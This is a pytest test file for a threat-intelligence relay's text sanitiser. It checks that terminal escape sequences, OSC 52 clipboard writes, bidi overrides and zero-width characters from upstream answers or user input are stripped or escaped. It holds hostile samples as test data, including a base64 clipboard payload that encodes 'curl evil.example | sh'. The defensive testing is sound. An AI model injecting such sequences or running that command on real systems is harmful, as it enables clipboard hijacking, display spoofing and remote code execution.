"""Upstream text is shown, never obeyed (relay/text.py): no control or format character from
Threatscore reaches CTIM, a log line or the terminal; nor one from a value the user typed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relay.text import cleaned, escaped
from simulator.catalogue import BY_VALUE, CLIPBOARD_WRITE, catalogue_answer
from tests.ctim import check_answer
from tests.relay_process import ROOT, without_relay_settings

OBSERVE = "/observe/observables"
HOSTILE = "hostile.example"
# What would act on a terminal or a UI if shown as it is.
UNSAFE_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def unsafe(text: str, allowed: str = "") -> list[str]:
    return [char for char in text if unicodedata.category(char) in UNSAFE_CATEGORIES and char not in allowed]


def strings_in(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (*strings_in(key), *strings_in(item))]
    if isinstance(value, list):
        return [text for item in value for text in strings_in(item)]
    return []


# --- the one cleaning function ----------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mmalicious\x1b[0m", "malicious"),  # colours: the sequence goes, the word stays
        (CLIPBOARD_WRITE + "malware", "malware"),  # OSC 52: the whole clipboard write goes
        ("Evil \x1b]8;;http://evil.example\x07Corp\x1b]8;;\x07", "Evil Corp"),  # OSC 8 hyperlink
        ("\x1b]0;title\x1b\\text", "text"),  # OSC ended by ST
        ("spam\r\x1b[2Kcleared", "spam cleared"),  # a carriage return and a line clear
        ("Nether\x9b2Jlands", "Netherlands"),  # an 8-bit CSI
        ("\x9d52;c;eA==\x9cafter", "after"),  # an 8-bit OSC, ended by an 8-bit ST
        ("reset\x1bc", "reset"),  # ESC c: reset the terminal
        ("phishing\u202egnp.exe", "phishinggnp.exe"),  # a right-to-left override
        ("\u2066isolated\u2069\u200b", "isolated"),  # isolates, a zero-width space
        ("a\u200db\ufeffc\u2060d", "abcd"),  # joiners, a byte-order mark, a word joiner
        ("line\u2028two\u2029three", "line two three"),  # line and paragraph separators
        ("tab\there\nnew\x0bline\x0c", "tab here new line"),
        ("bell\x07 del\x7f nul\x00", "bell del nul"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),  # shown as a decoder shows it
        ("private \ue000 use", "private use"),
        ("\x1b[", ""),  # an unfinished sequence: the escape goes
        ("Amsterdam", "Amsterdam"),
        ("Zürich 東京 مرحبا", "Zürich 東京 مرحبا"),  # letters of any script stay
        ("  spaced   out  ", "spaced out"),
    ],
)
def test_cleaned(raw, shown):
    assert cleaned(raw) == shown


def test_cleaned_is_cut_to_its_limit():
    assert cleaned("a" * 300, 10) == "a" * 9 + "…"
    assert len(cleaned("\x1b[2J" * 10_000 + "x" * 10_000, 256)) <= 256


@given(st.text(max_size=300))
def test_cleaned_leaves_nothing_that_acts(text):
    shown = cleaned(text, 200)
    assert not unsafe(shown) and "\x1b" not in shown
    assert len(shown) <= 200 and shown == shown.strip()
    assert cleaned(shown, 200) == shown  # cleaning what is clean changes nothing


@given(st.text(max_size=100))
def test_escaped_shows_every_character_and_obeys_none(text):
    shown = escaped(text)
    assert not unsafe(shown)
    if text.isprintable():
        assert shown == text


def test_escaped_spells_out_what_it_cannot_show():
    assert escaped("evil\x1b]52;c;eA==\x07") == "evil\\x1b]52;c;eA==\\x07"
    assert escaped("1.2.3.4\u202e") == "1.2.3.4\\u202e"
    assert escaped("a\nb", keep="\n") == "a\nb"


# --- Threatscore's hostile strings, through the real process ------------------------------


@pytest.fixture
def hostile_threatscore(threatscore):
    threatscore.fallback(catalogue_answer)
    return threatscore


@pytest.mark.parametrize("api", ["v3", "score"])
def test_hostile_upstream_strings_never_reach_ctim_or_the_log(hostile_threatscore, launch_relay, http, api):
    relay = launch_relay(THREATSCORE_API=api)
    response = http.post(relay.url + OBSERVE, json=[{"type": "domain", "value": HOSTILE}], timeout=30)

    raw = response.content.decode()
    answer = response.json()
    check_answer(answer)
    assert "errors" not in answer
    assert answer["data"]["verdicts"]["docs"][0]["disposition_name"] == "Malicious"
    texts = strings_in(answer)
    assert not [(text, unsafe(text, "\n")) for text in texts if unsafe(text, "\n")]
    assert "\\u001b" not in raw and "\\u0007" not in raw and "\\r" not in raw
    words = " ".join(texts)
    if api == "v3":
        # What the strings say is still there, in plain words.
        for word in ("phishinggnp.exe", "malware", "spam cleared", "isolated", "Netherlands", "Evil Corp"):
            assert word in words, word
        assert "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA" not in words  # the clipboard payload is gone
    lines = relay.stdout_lines()
    assert lines and not [line for line in lines if unsafe(line) or "\\u001b" in line]


def run_cli(*argv: str, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(  # noqa: S603 - our own command line
        [sys.executable, "-m", "relay", *argv],
        cwd=ROOT,
        env={**without_relay_settings(os.environ), **env},
        capture_output=True,
        timeout=60,
        check=False,
    )


@pytest.mark.parametrize("json_output", [False, True])
def test_the_command_line_shows_hostile_upstream_strings_cleaned(hostile_threatscore, json_output):
    result = run_cli(
        "lookup", *(["--json"] if json_output else []), HOSTILE, THREATSCORE_API_URL=hostile_threatscore.url
    )

    out, err = result.stdout.decode(), result.stderr.decode()
    assert result.returncode == 0, err
    assert not unsafe(out, "\n") and not unsafe(err, "\n")
    if json_output:
        assert "Malicious" in out and "\\u001b" not in out and json.loads(out)
    else:
        assert "Malicious" in out and "phishinggnp.exe" in out and "malware" in out


def test_the_command_line_shows_what_the_user_typed_escaped(hostile_threatscore):
    typed = [
        "user_agent:evil" + CLIPBOARD_WRITE,
        "ip:192.0.2.1\u202e",
        "domain:x\x1b[2J.example",
    ]
    result = run_cli("lookup", *typed, THREATSCORE_API_URL=hostile_threatscore.url)

    out, err = result.stdout.decode(), result.stderr.decode()
    assert result.returncode == 1  # none of them is a valid value
    assert not unsafe(out, "\n") and not unsafe(err, "\n")
    assert "evil\\x1b]52;c;" in out and "192.0.2.1\\u202e" in out and "x\\x1b[2J.example" in out
    assert hostile_threatscore.total_calls == 0


def test_the_catalogue_entry_is_hostile_in_both_apis():
    """The reproduction stays a reproduction: the simulator really sends these strings."""
    entry = BY_VALUE[HOSTILE]
    for body in (entry.v3.body, entry.score.body):
        assert [text for text in strings_in(body) if unsafe(text)]


@pytest.mark.parametrize("api", ["v3", "score"])
def test_every_string_of_a_parsed_answer_is_clean(api):
    from relay.schemas import parse_score_answer, parse_v3_answer

    entry = BY_VALUE[HOSTILE]
    parsed = parse_v3_answer(entry.v3.body) if api == "v3" else parse_score_answer(entry.score.body)
    texts = strings_in(parsed)
    assert texts and not [text for text in texts if unsafe(text) or text != cleaned(text, 256)]
    if api == "v3":
        assert parsed["level"] == "malicious"  # its colours gone, the word is Threatscore's again
        assert parsed["flags"] == ["attack", "scan"]
        assert parsed["tags"] == ["dns", "bell"]  # a tag of escapes only is no tag
    else:
        assert parsed["scores"][0]["level"] == "malicious"
        assert [engine["engineId"] for engine in parsed["scores"][0]["details"]] == [
            "blocklists",
            "honeypots",
        ]


def test_a_required_string_made_only_of_escapes_is_a_format_error():
    from relay.errors import UpstreamFormatError
    from relay.schemas import parse_v3_answer

    body = {
        "threatscore": {"value": 0.5, "level": "suspicious"},
        "analysis": [{"id": "\x1b[2J\u202e", "date": "2026-01-01T00:00:00Z", "score": 0.5}],
    }
    with pytest.raises(UpstreamFormatError, match="analysis"):
        parse_v3_answer(body)
